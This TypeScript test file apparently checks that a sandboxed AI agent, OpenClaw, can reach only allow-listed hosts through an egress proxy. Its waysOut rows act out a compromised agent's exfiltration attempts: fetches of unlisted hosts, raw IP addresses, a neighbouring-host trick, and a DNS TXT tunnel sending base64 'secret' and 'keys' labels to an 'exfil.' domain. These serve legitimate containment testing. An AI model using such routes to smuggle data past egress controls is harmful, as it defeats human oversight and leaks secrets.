/** What is asked of the real OpenClaw, as rows. */
import { CDN, ELSEWHERE, OPENCLAW_ZONE, PASTE, SITE } from "../address.ts";
import { tally } from "../ledger.ts";
import type { Player } from "../player.ts";
import type { Gateway } from "./gateway.ts";
import { isLogged } from "./logged.ts";
import { PLAIN_ANSWER } from "./model.ts";
import { codesIn, refusalIn, said, scripts } from "./script.ts";
import type { Web } from "./web.ts";

const TUNNEL = `exfil.${SITE.unlisted}`;

/** What a row has at hand. */
export interface Stage {
  readonly internet: Player;
  readonly gateway: Gateway;
  readonly web: Web;
}

/** One claim, and how it is shown. */
export interface Step {
  readonly claim: string;
  readonly expected: string;
  /** `verdict rule-or-reason` that the log gains about this name or address; null: nothing is looked for. */
  readonly log: { readonly about: string; readonly words: string } | null;
  readonly seen: () => Promise<string>;
}

/** What an agent is there for: its model, and what the policy lists, by each of its tools. */
export function works({ gateway }: Stage): Step[] {
  const { listed, below } = SITE;
  const script = scripts();
  return [
    {
      claim: "OpenClaw has a turn with its model, by name",
      expected: PLAIN_ANSWER,
      log: { about: listed, words: "accept api" },
      seen: () => gateway.ask("hello"),
    },
    {
      claim: "its web_fetch reaches a listed name over HTTPS",
      expected: `REACHED ${below}`,
      log: { about: below, words: "accept files" },
      seen: async () => said(await gateway.ask(`FETCH https://${below}/`)),
    },
    {
      claim: "its web_fetch reaches a listed name over HTTP",
      expected: `REACHED ${below}`,
      log: { about: below, words: "accept files" },
      seen: async () => said(await gateway.ask(`FETCH http://${below}/`)),
    },
    {
      claim: `a command of it (${script.client}) reaches a listed name`,
      expected: `REACHED ${below}`,
      log: { about: below, words: "accept files" },
      seen: async () => said(await gateway.command(script.get(`https://${below}/`))),
    },
  ];
}

/** Ways out of a model that was talked into it. Nothing of them may arrive, and no command may hang. */
export function waysOut(stage: Stage): Step[] {
  const { gateway } = stage;
  const { unlisted } = SITE;
  const script = scripts();
  const refused = { about: unlisted, words: "refuse default" };
  const command = (text: string) => () => unseen(stage, async () => said(await gateway.command(text)));
  return [
    {
      claim: "its web_fetch of an unlisted name is told that there is none",
      expected: "ENOTFOUND; 0 packets",
      log: refused,
      seen: () => unseen(stage, async () => said(await gateway.ask(`FETCH https://${unlisted}/`))),
    },
    {
      claim: `${script.client} of an unlisted name is told the same`,
      expected: "ENOTFOUND; 0 packets",
      log: refused,
      seen: command(script.get(`https://${unlisted}/`)),
    },
    {
      claim: `${script.direct} of an unlisted name is told the same`,
      expected: "ENOTFOUND; 0 packets",
      log: refused,
      seen: command(script.getDirect(`http://${unlisted}/`)),
    },
    {
      claim: "node -e fetch of an unlisted name is told the same",
      expected: "ENOTFOUND; 0 packets",
      log: refused,
      seen: command(script.node(`https://${unlisted}/`)),
    },
    {
      claim: "a raw IPv4 address is refused at once",
      expected: "ECONNREFUSED; 0 packets",
      log: { about: PASTE[0], words: "refuse default" },
      seen: command(script.getDirect(`http://${PASTE[0]}/`)),
    },
    {
      claim: "a raw IPv6 address is refused at once",
      expected: "ECONNREFUSED; 0 packets",
      log: { about: PASTE[1], words: "refuse default" },
      seen: command(script.getDirect(`http://[${PASTE[1]}]/`)),
    },
    {
      claim: "an unlisted neighbour on a listed name's address is refused by its name",
      expected: "403 default",
      log: { about: SITE.neighbour, words: "refuse default" },
      seen: async () => said(await gateway.command(script.neighbour(SITE.neighbour, CDN[0]))),
    },
    {
      claim: "a DNS tunnel of TXT questions, by two resolvers, carries nothing out",
      expected: "ENOTFOUND x2; 0 packets; 0 questions",
      log: null,
      seen: () => tunnel(stage),
    },
  ];
}

/** That OpenClaw is well, and that nothing it asks for on its own is reached. */
export function healthy({ gateway, web }: Stage, claim: string): Step {
  return {
    claim,
    expected: "ready; 0 packets",
    log: null,
    seen: async () => {
      const ready = (await gateway.isReady()) ? "ready" : "not ready";
      return `${ready}; ${web.packetsTo(Object.values(OPENCLAW_ZONE).flat())} packets`;
    },
  };
}

/** The same with Seawall's proxy in OpenClaw's configuration: what is refused is told with its reason. */
export function proxied(stage: Stage): Step[] {
  const { gateway } = stage;
  const { listed, below, unlisted } = SITE;
  const script = scripts();
  const refused = { about: unlisted, words: "refuse default" };
  return [
    {
      claim: "through Seawall's proxy OpenClaw has a turn with its model",
      expected: PLAIN_ANSWER,
      log: { about: listed, words: "accept api" },
      seen: () => gateway.ask("hello"),
    },
    {
      claim: "through the proxy its web_fetch reaches a listed name",
      expected: `REACHED ${below}`,
      log: { about: below, words: "accept files" },
      seen: async () => said(await gateway.ask(`FETCH https://${below}/`)),
    },
    {
      claim: "through the proxy its web_fetch of an unlisted name is told 403",
      expected: "403; 0 packets",
      log: refused,
      seen: () => unseen(stage, async () => said(await gateway.ask(`FETCH https://${unlisted}/`))),
    },
    {
      claim: `through the proxy ${script.client} is told the reason, with the id that the log has`,
      expected: "403 default, id of the log; 0 packets",
      log: refused,
      seen: () =>
        unseen(stage, async () => idOfLog(await gateway.command(script.getProxied(`http://${unlisted}/`)))),
    },
    {
      claim: `with the proxy set, ${script.direct} gets no further`,
      expected: "ENOTFOUND; 0 packets",
      log: refused,
      seen: () =>
        unseen(stage, async () => said(await gateway.command(script.getDirect(`https://${unlisted}/`)))),
    },
  ];
}

/** What was said, and how many packets came for the unlisted site meanwhile. */
async function unseen({ web }: Stage, act: () => Promise<string>): Promise<string> {
  const before = web.packetsTo(PASTE);
  const words = await act();
  return `${words}; ${web.packetsTo(PASTE) - before} packets`;
}

/** Data in the labels of a question, to the resolver of the host and to one of its own choice. */
async function tunnel({ gateway, internet, web }: Stage): Promise<string> {
  const own = ELSEWHERE[0];
  const before = web.packetsTo([own]);
  const answer = await gateway.command(scripts().tunnel([`c2VjcmV0.${TUNNEL}`, `a2V5cw.${TUNNEL}`], own));
  const questions = await internet.ask<number>({ do: "asked", suffix: TUNNEL });
  return `${tally(codesIn(answer))}; ${web.packetsTo([own]) - before} packets; ${questions} questions`;
}

/** The gate's words to the agent, and whether its id is one that the log has. */
async function idOfLog(answer: string): Promise<string> {
  const refusal = refusalIn(answer);
  if (refusal === null) return said(answer);
  return `403 ${refusal.reason}, ${(await isLogged(refusal.id)) ? "id of the log" : "an id of its own"}`;
}
